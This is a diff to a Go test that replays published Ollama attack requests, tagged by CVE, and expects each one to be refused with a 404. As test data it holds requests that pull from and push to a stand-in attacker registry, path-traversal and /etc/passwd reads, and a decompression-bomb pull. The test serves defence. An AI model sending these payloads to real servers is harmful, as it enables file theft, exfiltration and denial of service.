@@ -106,7 +106,7 @@ func TestPublishedAttacksOnServersDoNotReachThem(t *testing.T) {
 		{"CVE-2024-37032: a manifest of the attacker's is pulled", "ollama", request{method: "POST", path: "/api/pull", body: `{"name":"evil.example/rogue/bi0x","insecure":true}`}, 404, ""},
 		{"CVE-2024-37032: and the file it names pushed", "ollama", request{method: "POST", path: "/api/push", body: `{"name":"evil.example/rogue/bi0x","insecure":true}`}, 404, ""},
 		{"CVE-2024-39719: a path that is there or not", "ollama", request{method: "POST", path: "/api/create", body: `{"name":"x","path":"/etc/passwd"}`}, 404, ""},
-		{"CVE-2024-39720: a file of four bytes", "ollama", request{method: "POST", path: "/api/create", body: `{"name":"x","modelfile":"FROM /root/.ollama/models/blobs/sha256-x"}`}, 404, ""},
+		{"CVE-2024-39720: a file of four bytes", "ollama", request{method: "POST", path: "/api/create", body: `{"name":"x","modelfile":"FROM ./four-bytes.gguf"}`}, 404, ""},
 		{"CVE-2024-39721: a file without end", "ollama", request{method: "POST", path: "/api/create", body: `{"name":"x","path":"/dev/random"}`}, 404, ""},
 		{"CVE-2024-39722: a path in a push", "ollama", request{method: "POST", path: "/api/push", body: `{"name":"../../../../etc/passwd"}`}, 404, ""},
 		{"CVE-2024-12886: a pull that unpacks without end", "ollama", request{method: "POST", path: "/api/pull", body: `{"model":"evil.example/a/bomb"}`}, 404, ""},
